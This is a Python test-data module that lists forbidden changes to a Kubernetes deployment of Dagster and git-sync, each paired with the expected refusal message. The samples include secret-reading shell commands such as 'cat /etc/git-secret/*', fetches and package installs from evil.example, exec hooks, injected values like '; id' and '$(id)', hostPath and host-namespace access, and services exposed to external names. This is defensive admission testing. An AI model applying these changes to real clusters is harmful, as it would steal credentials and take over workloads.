"""What `ops` must not do to a release: changes of one that it may make, and how each is refused."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from playground_ops.render.gitsync import GIT_USER
from playground_ops.render.names import (
    APP_FOLDER,
    ARTIFACTS,
    KEPT_FOLDER,
    MADE_ENVIRONMENTS,
    OPS_ACCOUNT,
    PACKAGES_USER,
    REPOSITORY_FOLDER,
)

Object = dict[str, Any]
Change = Callable[[Object], None]


def spec(found: Object) -> Object:
    return dict(found["spec"]) if found["kind"] == "Pod" else dict(found["spec"]["template"]["spec"])


def volume(source: Object) -> Change:
    return lambda found: spec(found)["volumes"].append({"name": "extra", **source})


def variable(secret: str) -> Change:
    reference = {"name": "X", "valueFrom": {"secretKeyRef": {"name": secret, "key": "k"}}}
    return lambda found: spec(found)["containers"][0]["env"].append(reference)


def every_variable(found: Object) -> None:
    spec(found)["containers"][0]["envFrom"] = [{"secretRef": {"name": "foreign"}}]


def pull(found: Object) -> None:
    found["spec"]["template"]["spec"]["imagePullSecrets"] = [{"name": "foreign"}]


def account(name: str) -> Change:
    def change(found: Object) -> None:
        found["spec"]["template"]["spec"]["serviceAccountName"] = name

    return change


def token(**source: str) -> Change:
    return volume({"projected": {"sources": [{"serviceAccountToken": {"path": "token", **source}}]}})


def image(found: Object) -> None:
    spec(found)["containers"][0]["image"] = "elsewhere/evil:1"


def credentials_for_the_code(found: Object) -> None:
    mount = {"name": "git-secret", "mountPath": "/x"}
    spec(found)["containers"][0]["volumeMounts"].append(mount)


def fetch_elsewhere(found: Object) -> None:
    arguments = spec(found)["initContainers"][0]["args"]
    arguments[0] = "--repo=https://evil.example/x.git"


def fetch_and_run(found: Object) -> None:
    spec(found)["initContainers"][0]["args"].append("--exechook-command=/bin/sh")


def fetch_by_shell(found: Object) -> None:
    spec(found)["initContainers"][0]["command"] = ["sh", "-c", "cat /etc/git-secret/*", "resolve"]


def fetch_by_another_ssh(found: Object) -> None:
    spec(found)["initContainers"][0]["env"].append({"name": "GIT_SSH_COMMAND", "value": "sh -c env"})


def fetch_with_what_a_config_map_says(found: Object) -> None:
    source = {"configMapKeyRef": {"name": "x", "key": "y"}}
    spec(found)["initContainers"][0]["env"].append({"name": "GITSYNC_USERNAME", "valueFrom": source})


def fetch_with_another_git(found: Object) -> None:
    spec(found)["volumes"].append({"name": "programs", "configMap": {"name": "x"}})
    spec(found)["initContainers"][0]["volumeMounts"].append({"name": "programs", "mountPath": "/usr/bin"})


def fetch_at_home_elsewhere(found: Object) -> None:
    (home,) = [one for one in spec(found)["volumes"] if one["name"] == "fetch-tmp"]
    del home["emptyDir"]
    home["configMap"] = {"name": "x"}


def prepare_for_the_fetch(found: Object) -> None:
    before = {**spec(found)["containers"][0], "name": "before"}
    del before["startupProbe"], before["readinessProbe"], before["livenessProbe"]
    spec(found)["initContainers"].insert(0, before)


def credentials_of_the_index_for_the_code(found: Object) -> None:
    mount = {"name": "packages-secret", "mountPath": "/x"}
    spec(found)["containers"][0]["volumeMounts"].append(mount)


def install_by_shell(found: Object) -> None:
    spec(found)["initContainers"][1]["command"][2] = "cat /etc/packages-secret/*"
    spec(found)["initContainers"][1]["securityContext"].pop("runAsUser")
    drop(found, 1, MADE_ENVIRONMENTS)


def install_from_elsewhere(found: Object) -> None:
    spec(found)["initContainers"][1]["env"].append({"name": "UV_INDEX", "value": "https://evil.example"})


def install_with_what_a_config_map_says(found: Object) -> None:
    spec(found)["initContainers"][1]["envFrom"] = [{"configMapRef": {"name": "x"}}]


def install_with_other_programs(found: Object) -> None:
    spec(found)["volumes"].append({"name": "programs", "configMap": {"name": "x"}})
    spec(found)["initContainers"][1]["volumeMounts"].append({"name": "programs", "mountPath": "/usr/bin"})


def prepare_for_the_install(found: Object) -> None:
    before = {**spec(found)["containers"][0], "name": "before"}
    del before["startupProbe"], before["readinessProbe"], before["livenessProbe"]
    spec(found)["initContainers"].insert(1, before)


def beside(number: int) -> Change:
    """Let an init container go on beside the server; only such ones may have hooks."""
    hook = {"exec": {"command": ["sh", "-c", "cat /etc/*-secret/*"]}}
    more = {"lifecycle": {"postStart": hook}, "restartPolicy": "Always"}
    return lambda found: spec(found)["initContainers"][number].update(more)


def drop(found: Object, number: int, path: str) -> None:
    """Take a mount from an init container."""
    one = spec(found)["initContainers"][number]
    one["volumeMounts"] = [mount for mount in one["volumeMounts"] if mount["mountPath"] != path]


def fetching(**fields: Any) -> Change:
    return lambda found: spec(found)["initContainers"][0].update(fields)


def installing(**fields: Any) -> Change:
    return lambda found: spec(found)["initContainers"][1].update(fields)


def serving(**fields: Any) -> Change:
    return lambda found: spec(found)["containers"][0].update(fields)


def of_the_pod(**fields: Any) -> Change:
    return lambda found: found["spec"]["template"]["spec"].update(fields)


def argument(number: int, value: str, of: int = 0) -> Change:
    return lambda found: spec(found)["initContainers"][of]["args"].__setitem__(number, value)


def argument_less(value: str) -> Change:
    return lambda found: spec(found)["initContainers"][0]["args"].remove(value)


def in_env(number: int, name: str, value: str) -> Change:
    return lambda found: spec(found)["initContainers"][number]["env"].append({"name": name, "value": value})


def user_from(secret: str, key: str) -> Change:
    def change(found: Object) -> None:
        for one in spec(found)["initContainers"][0]["env"]:
            if "valueFrom" in one:
                one["valueFrom"]["secretKeyRef"] |= {"name": secret, "key": key}

    return change


def with_the_secret_of(secret: str) -> Change:
    def change(found: Object) -> None:
        (volume,) = [one for one in spec(found)["volumes"] if one["name"] == "git-secret"]
        volume["secret"]["secretName"] = secret

    return change


def mounted(container: str, path: str, **fields: Any) -> Change:
    """Change a mount of a container of the pod, by its place."""

    def change(found: Object) -> None:
        every = (*spec(found)["containers"], *spec(found)["initContainers"])
        (one,) = [one for one in every if one["name"] == container]
        (mount,) = [mount for mount in one["volumeMounts"] if mount["mountPath"] == path]
        mount.update(fields)
        for name in [name for name, value in fields.items() if value is None]:
            del mount[name]

    return change


def also_mounted(container: str, **mount: Any) -> Change:
    def change(found: Object) -> None:
        every = (*spec(found)["containers"], *spec(found)["initContainers"])
        (one,) = [one for one in every if one["name"] == container]
        one["volumeMounts"].append(mount)

    return change


def claim(name: str, **mount: Any) -> Change:
    def change(found: Object) -> None:
        volume({"persistentVolumeClaim": {"claimName": name}})(found)
        spec(found)["containers"][0]["volumeMounts"].append({"name": "extra", "mountPath": "/x", **mount})

    return change


def labelled(app: str) -> Change:
    def change(found: Object) -> None:
        found["spec"]["template"]["metadata"]["labels"]["app"] = app

    return change


def user_of(container: str, user: int | None) -> Change:
    def change(found: Object) -> None:
        every = (*spec(found)["containers"], *spec(found)["initContainers"])
        (one,) = [one for one in every if one["name"] == container]
        one["securityContext"].pop("runAsUser", None)
        if user is not None:
            one["securityContext"]["runAsUser"] = user

    return change


def pod_user(user: int) -> Change:
    return lambda found: found["spec"]["template"]["spec"]["securityContext"].update({"runAsUser": user})


def be_whom_environments_belong_to(found: Object) -> None:
    spec(found)["containers"][0]["securityContext"]["runAsUser"] = PACKAGES_USER


def all_be_whom_environments_belong_to(found: Object) -> None:
    spec(found)["securityContext"]["runAsUser"] = PACKAGES_USER


COMMAND = "a command of git-sync that the stack does not use"
CLAIM = "a folder of a claim, or a claim"
REFUSED: list[tuple[Change, str]] = [
    (image, "an image that the configuration does not name: elsewhere/evil:1"),
    (volume({"secret": {"secretName": "foreign"}}), "a volume of a Secret"),
    (volume({"secret": {"secretName": "dagster-postgres"}}), "a volume of a Secret"),
    (volume({"secret": {"secretName": "shell-files"}}), "a volume of a Secret"),
    (volume({"secret": {"secretName": "database-ca"}}), "a volume of a Secret"),
    (
        volume({"projected": {"sources": [{"secret": {"name": "foreign"}}]}}),
        "a kind of volume that the stack has none of",
    ),
    (token(), "a kind of volume that the stack has none of"),
    (token(audience="https://kubernetes.default.svc"), "a kind of volume that the stack has none of"),
    (variable("foreign"), "a variable from a Secret"),
    (variable("web-git"), "a variable from a Secret"),
    (variable("dagster-postgres-next"), "the database of another deployment"),
    (every_variable, "variables from a Secret"),
    (pull, "a pull secret"),
    (account(OPS_ACCOUNT), f"the service account {OPS_ACCOUNT}"),
    (account("another"), "the service account another"),
    (credentials_for_the_code, "git credentials in a container that does not fetch"),
    (fetch_elsewhere, "a repository that is not configured"),
    (fetch_and_run, "a command of git-sync that the stack does not use"),
    (fetch_by_shell, "a command of git-sync that the stack does not use"),
    (fetch_by_another_ssh, "a variable of git-sync that the stack does not use"),
    (fetch_with_what_a_config_map_says, "a variable of git-sync that the stack does not use"),
    (fetch_with_another_git, "a volume of git-sync that the stack does not use"),
    (fetch_at_home_elsewhere, "a volume of git-sync that the stack does not use"),
    (credentials_of_the_index_for_the_code, "credentials of the package index in a container that does not"),
    (install_by_shell, "credentials of the package index in a container that does not install"),
    (install_from_elsewhere, "a variable of what installs packages that the stack does not use"),
    (install_with_what_a_config_map_says, "something of what installs packages"),
    (install_with_other_programs, "a volume of what installs packages that the stack does not use"),
    (prepare_for_the_install, "what installs packages beside another container"),
    (beside(0), "an init container that goes on beside the others"),
    (beside(1), "an init container that goes on beside the others"),
    (be_whom_environments_belong_to, "the user that environments belong to"),
    (all_be_whom_environments_belong_to, "the user that environments belong to"),
    (prepare_for_the_fetch, "git-sync after or beside another container"),
    # Arguments, as a whole.
    (argument_less("--one-time"), COMMAND),
    (argument_less("--depth=1"), COMMAND),
    (argument(2, "--depth=1\n--one-time"), COMMAND),
    (argument(1, "--ref=main"), COMMAND),
    (argument(1, f"--ref={'0' * 40}; id"), COMMAND),
    (argument(4, f"--root={REPOSITORY_FOLDER}/../../../etc"), COMMAND),
    (argument(4, f"--root={KEPT_FOLDER}"), COMMAND),
    (argument(5, "--link=../current"), COMMAND),
    (
        lambda found: spec(found)["initContainers"][0]["args"].append("--git-config=core.hooksPath:/x"),
        COMMAND,
    ),
    (lambda found: spec(found)["initContainers"][0]["args"].append("--ssh-key-file=/x"), COMMAND),
    (
        lambda found: spec(found)["initContainers"][0]["args"].append("--askpass-url=http://evil.example"),
        COMMAND,
    ),
    (fetching(args=[]), COMMAND),
    (fetching(command=["/git-sync"]), COMMAND),
    (argument(0, "/opt/dagster/artifacts", of=1), "an argument of what installs packages"),
    (argument(0, f"{REPOSITORY_FOLDER}/.worktrees/../../x", of=1), "an argument of what installs packages"),
    (argument(-1, "../a-1", of=1), "an argument of what installs packages"),
    # Variables.
    (fetching(envFrom=[{"configMapRef": {"name": "x"}}]), "something of git-sync"),
    (fetching(envFrom=[{"secretRef": {"name": "more"}}]), "variables from a Secret"),
    (in_env(0, "GIT_CONFIG_COUNT", "1"), "a variable of git-sync"),
    (in_env(0, "GITSYNC_EXECHOOK_COMMAND", "/x"), "a variable of git-sync"),
    (in_env(0, "LD_PRELOAD", "/x"), "a variable of git-sync"),
    (in_env(0, "HOME", APP_FOLDER), "a variable of git-sync"),
    (in_env(0, "PLAYGROUND_LIVE", "$(id)"), "a variable of git-sync"),
    (in_env(1, "PYTHONPATH", "/x"), "a variable of what installs packages"),
    (in_env(1, "LD_PRELOAD", "/x"), "a variable of what installs packages"),
    (in_env(1, "UV_NO_BUILD", "0"), "a variable of what installs packages"),
    (user_from("shell-git", "username"), "the user of another repository"),
    (user_from("web-git", "password"), "the user of another repository"),
    (user_from("ops-git", "username"), "the user of another repository"),
    # A repository and its Secret are a pair.
    (with_the_secret_of("shell-git"), "the Secret of another repository"),
    (with_the_secret_of("ops-git"), "the Secret of another repository"),
    (with_the_secret_of("index"), "a volume of git-sync that the stack does not use"),
    # What runs before, after or beside.
    (fetching(restartPolicy="Always"), "an init container that goes on beside the others"),
    (fetching(workingDir=APP_FOLDER), "something of git-sync"),
    (fetching(stdin=True), "something of git-sync"),
    (fetching(tty=True), "something of git-sync"),
    (fetching(terminationMessagePath="/etc/git-secret/password"), "something of git-sync"),
    (installing(workingDir=REPOSITORY_FOLDER), "something of what installs packages"),
    (
        installing(terminationMessagePath="/etc/packages-secret/password"),
        "something of what installs packages",
    ),
    (of_the_pod(shareProcessNamespace=True), "folders or processes of git-sync"),
    # Folders.
    (mounted("git-sync", KEPT_FOLDER, subPath=".code/shell.git"), "a volume of git-sync"),
    (mounted("git-sync", KEPT_FOLDER, subPath=".code"), "a volume of git-sync"),
    (mounted("git-sync", KEPT_FOLDER, subPath=None), "a volume of git-sync"),
    (mounted("git-sync", KEPT_FOLDER, subPath=None, subPathExpr=".code/web.git"), "a volume of git-sync"),
    (mounted("git-sync", KEPT_FOLDER, subPath=".environments"), "a volume of git-sync"),
    (mounted("git-sync", REPOSITORY_FOLDER, name="app"), "folders or processes of git-sync"),
    (mounted("git-sync", "/tmp", name="tmp"), "folders or processes of git-sync"),
    (also_mounted("git-sync", name="home", mountPath="/usr/bin"), "a volume of git-sync"),
    (mounted("install-packages", MADE_ENVIRONMENTS, subPath=None), "a volume of what installs packages"),
    (
        mounted("install-packages", MADE_ENVIRONMENTS, subPath="locations/web"),
        "a volume of what installs packages",
    ),
    (mounted("install-packages", "/tmp", name="tmp"), "folders of what installs packages"),
    (mounted("install-packages", "/tmp", name="fetch-tmp"), "folders or processes of git-sync"),
    (mounted("install-packages", REPOSITORY_FOLDER, readOnly=None), "folders or processes of git-sync"),
    (mounted("dagster-grpc", REPOSITORY_FOLDER, readOnly=None), "folders or processes of git-sync"),
    (mounted("dagster-grpc", "/opt/dagster/chosen", readOnly=None), "folders of what installs packages"),
    (also_mounted("dagster-grpc", name="fetch-tmp", mountPath="/x"), "folders or processes of git-sync"),
    (
        also_mounted("dagster-grpc", name="install-tmp", mountPath="/x", readOnly=True),
        "folders of what installs",
    ),
    (mounted("dagster-grpc", "/opt/dagster/environments", readOnly=None), CLAIM),
    (mounted("dagster-grpc", "/opt/dagster/artifacts", subPath=None), CLAIM),
    (mounted("dagster-grpc", "/opt/dagster/artifacts", subPath="locations"), CLAIM),
    (mounted("dagster-grpc", "/opt/dagster/artifacts", subPath=".code/web.git"), CLAIM),
    (mounted("dagster-grpc", "/opt/dagster/artifacts", subPath="locations/nobody"), CLAIM),
    (mounted("dagster-grpc", "/opt/dagster/artifacts", subPath=None, subPathExpr="locations/web"), CLAIM),
    (claim(ARTIFACTS), CLAIM),
    (claim("data-dagster-postgres-0"), CLAIM),
    (claim("somebody-s"), CLAIM),
    # Users.
    (user_of("dagster-grpc", GIT_USER), "the user that fetches"),
    (pod_user(GIT_USER), "the user that fetches"),
    (user_of("git-sync", None), "the user that fetches"),
    (user_of("git-sync", PACKAGES_USER), "the user that"),
    (user_of("install-packages", None), "the user that environments belong to"),
    (user_of("install-packages", GIT_USER), "the user that"),
    # The pod.
    (of_the_pod(hostAliases=[{"ip": "192.0.2.1", "hostnames": ["git.internal"]}]), "addresses, a resolver"),
    (of_the_pod(dnsPolicy="None", dnsConfig={"nameservers": ["192.0.2.1"]}), "addresses, a resolver"),
    (of_the_pod(dnsPolicy="Default"), "addresses, a resolver"),
    (of_the_pod(runtimeClassName="another"), "addresses, a resolver"),
    (of_the_pod(hostNetwork=True), "a namespace of the node"),
    (of_the_pod(hostPID=True), "a namespace of the node"),
    (volume({"hostPath": {"path": "/"}}), "a kind of volume"),
    (volume({"csi": {"driver": "secrets-store.csi.k8s.io"}}), "a kind of volume"),
    (volume({"nfs": {"server": "192.0.2.1", "path": "/"}}), "a kind of volume"),
    (labelled("dagster-postgres"), "the label of a component"),
    (labelled("dagster-webserver"), "the label of a component"),
]
"""Changes of a release's Deployment, each with a part of what the API server says to it."""


def a_service(name: str, **spec: Any) -> Object:
    ports = [{"name": "grpc", "port": 4000}]
    metadata = {"name": name}
    return {"apiVersion": "v1", "kind": "Service", "metadata": metadata, "spec": {"ports": ports, **spec}}


def noted(found: Object, **notes: str) -> Object:
    found["metadata"]["annotations"] = notes
    return found


def an_ingress(name: str, **spec: Any) -> Object:
    backend = {"service": {"name": name, "port": {"name": "http"}}}
    path = {"backend": backend, "path": "/", "pathType": "Prefix"}
    whole = {
        "rules": [{"host": "ui.internal", "http": {"paths": [path]}}],
        "ingressClassName": "inner",
        **spec,
    }
    metadata = {"name": name, "annotations": {"example.com/size": "8m"}}
    return {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": metadata, "spec": whole}


def to(host: str = "ui.internal", path: str = "/", service: str = "dagster-webserver") -> list[Object]:
    backend = {"service": {"name": service, "port": {"name": "http"}}}
    return [{"host": host, "http": {"paths": [{"backend": backend, "path": path, "pathType": "Prefix"}]}}]


WEB, UI = "dagster-grpc-web", "dagster-webserver"
OF_A_RELEASE = {"playground.dagster/location": "web", "playground.dagster/release": "1"}
ADDRESSES_REFUSED: list[tuple[Object, str]] = [
    (a_service("mine"), "a Service that the stack does not have"),
    (a_service("dagster-release-web-1x", selector=OF_A_RELEASE), "a Service that the stack does not have"),
    (a_service(WEB, type="NodePort"), "a type of Service"),
    (a_service(WEB, type="LoadBalancer"), "a type of Service"),
    (a_service("dagster-release-web-1", type="NodePort", selector=OF_A_RELEASE), "a type of Service"),
    (
        a_service("dagster-postgres", type="LoadBalancer", selector={"app": "dagster-postgres"}),
        "a type of Service",
    ),
    (a_service(WEB, externalIPs=["192.0.2.1"]), "addresses outside of the cluster"),
    (a_service(WEB, type="ExternalName", externalName="evil.example"), "a type of Service"),
    (a_service("dagster-postgres", selector={"app": WEB}), "other pods behind a Service"),
    (a_service("dagster-postgres"), "other pods behind a Service"),
    (a_service(UI, type="NodePort", selector={"app": WEB}), "other pods behind a Service"),
    (a_service(WEB, selector={"app": "dagster-grpc-shell"}), "other pods behind a Service"),
    (a_service(WEB, selector={"app": WEB, "x": "y"}), "other pods behind a Service"),
    (a_service("dagster-release-web-2", selector=OF_A_RELEASE), "other pods behind a Service"),
    (a_service("dagster-release-web-1"), "other pods behind a Service"),
    (a_service("dagster-release-web-1", selector={"app": WEB}), "other pods behind a Service"),
    (noted(a_service(WEB), **{"service.beta.kubernetes.io/x": "y"}), "the annotation of an address"),
    (an_ingress("mine"), "a host, a path or a Service"),
    (an_ingress(UI, rules=to("evil.example")), "a host, a path or a Service"),
    (an_ingress(UI, rules=to("*.internal")), "a host, a path or a Service"),
    (an_ingress(UI, rules=[*to(), *to("b.internal")]), "a host, a path or a Service"),
    (an_ingress(UI, rules=to(path="/x")), "a host, a path or a Service"),
    (an_ingress(UI, rules=to(service="another")), "a host, a path or a Service"),
    (
        an_ingress(UI, defaultBackend={"service": {"name": UI, "port": {"name": "http"}}}),
        "a host, a path or a Service",
    ),
    (an_ingress(UI, ingressClassName="outer"), "a class or a certificate"),
    (an_ingress(UI, tls=[{"hosts": ["ui.internal"], "secretName": "foreign"}]), "a class or a certificate"),
    (an_ingress(UI, tls=[{"hosts": ["evil.example"], "secretName": "tls"}]), "a class or a certificate"),
    (
        noted(an_ingress(UI), **{"nginx.ingress.kubernetes.io/configuration-snippet": "x"}),
        "the annotation of an address",
    ),
    (noted(an_ingress(UI), **{"example.com/size": "9m"}), "the annotation of an address"),
]
"""Services and Ingresses, each with a part of what the API server says to it."""
